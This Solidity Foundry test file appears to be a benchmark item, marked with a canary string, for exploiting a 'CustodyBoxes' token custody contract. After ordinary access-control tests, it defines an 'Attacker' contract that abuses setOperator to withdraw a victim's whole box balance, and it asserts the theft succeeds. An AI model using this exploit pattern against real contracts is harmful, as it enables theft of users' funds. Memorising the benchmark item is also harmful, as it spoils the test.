// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./CustodyBoxes.sol";
import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";

// assay-canary-590f6ab4-c1c0-4ebe-82c7-649bdf1ae380

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "!maker");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Token private token;
    CustodyBoxes private boxes;
    Attacker private mallory;
    uint256 private anas;

    function setUp() public {
        token = new Token();
        boxes = new CustodyBoxes(token);
        token.mint(ANA, 1_000e18);
        token.mint(BEN, 100e18);
        vm.startPrank(ANA);
        anas = boxes.open();
        token.approve(address(boxes), uint256(-1));
        boxes.deposit(anas, 800e18);
        vm.stopPrank();
        vm.prank(BEN);
        token.approve(address(boxes), uint256(-1));
        mallory = new Attacker(boxes, anas);
    }

    function held(uint256 id) private view returns (uint256 balance) {
        (, , balance) = boxes.boxes(id);
    }

    // a couple, each keeps the other's boxes too
    function test_Regular() public {
        vm.prank(ANA);
        boxes.setOperator(BEN, true);
        vm.startPrank(BEN);
        boxes.setOperator(ANA, true);
        uint256 bens = boxes.open();
        boxes.deposit(bens, 100e18);
        boxes.move(anas, bens, 200e18);
        require(held(anas) == 600e18 && held(bens) == 300e18, "moved");
        boxes.withdraw(anas, 50e18, CAT);
        vm.stopPrank();
        require(token.balanceOf(CAT) == 50e18 && held(anas) == 550e18, "by an operator");
        vm.startPrank(ANA);
        boxes.withdraw(anas, 50e18, ANA);
        require(token.balanceOf(ANA) == 250e18, "by the keeper");
        boxes.nominate(anas, CAT);
        boxes.setOperator(BEN, false);
        vm.stopPrank();
        vm.startPrank(CAT);
        boxes.take(anas);
        boxes.withdraw(anas, 500e18, CAT);
        require(token.balanceOf(CAT) == 550e18 && held(anas) == 0, "by the new keeper");
        vm.stopPrank();
        boxes.setClosed(true);
        boxes.setClosed(false);
        boxes.setGovernance(CAT);
        vm.prank(CAT);
        boxes.acceptGovernance();
        require(boxes.governance() == CAT && token.balanceOf(address(boxes)) == 300e18, "kept");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(CAT);
        uint256 cats = boxes.open();
        vm.expectRevert("!operator");
        boxes.withdraw(anas, 1, CAT);
        vm.expectRevert("!operator");
        boxes.move(anas, cats, 1);
        vm.expectRevert("!keeper");
        boxes.nominate(anas, CAT);
        vm.expectRevert("!nominee");
        boxes.take(anas);
        vm.expectRevert("!governance");
        boxes.setGovernance(CAT);
        vm.expectRevert("!governance");
        boxes.setClosed(true);
        vm.expectRevert("!next");
        boxes.acceptGovernance();
        vm.stopPrank();
    }

    function test_RefusesMistakes() public {
        vm.startPrank(ANA);
        vm.expectRevert("!other");
        boxes.setOperator(ANA, true);
        vm.expectRevert("!box");
        boxes.deposit(7, 1);
        vm.expectRevert("!amount");
        boxes.deposit(anas, 0);
        vm.expectRevert("!amount");
        boxes.withdraw(anas, 0, ANA);
        vm.expectRevert("!amount");
        boxes.withdraw(anas, 801e18, ANA);
        vm.expectRevert("!box");
        boxes.move(anas, 7, 1);
        vm.expectRevert("!amount");
        boxes.move(anas, anas, 0);
        vm.expectRevert("!amount");
        boxes.move(anas, anas, 801e18);
        vm.stopPrank();
        vm.expectRevert("!token");
        new CustodyBoxes(IERC20(address(0)));
    }

    function test_RefusesWhenClosed() public {
        boxes.setClosed(true);
        vm.startPrank(ANA);
        vm.expectRevert("!open");
        boxes.open();
        vm.expectRevert("!open");
        boxes.deposit(anas, 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 800e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(boxes);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function asset() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    CustodyBoxes private boxes;
    uint256 private id;

    constructor(CustodyBoxes _boxes, uint256 _id) {
        boxes = _boxes;
        id = _id;
    }

    function run() external {
        (address keeper, , uint256 balance) = boxes.boxes(id);
        boxes.setOperator(keeper, true);
        boxes.withdraw(id, balance, address(this));
    }
}
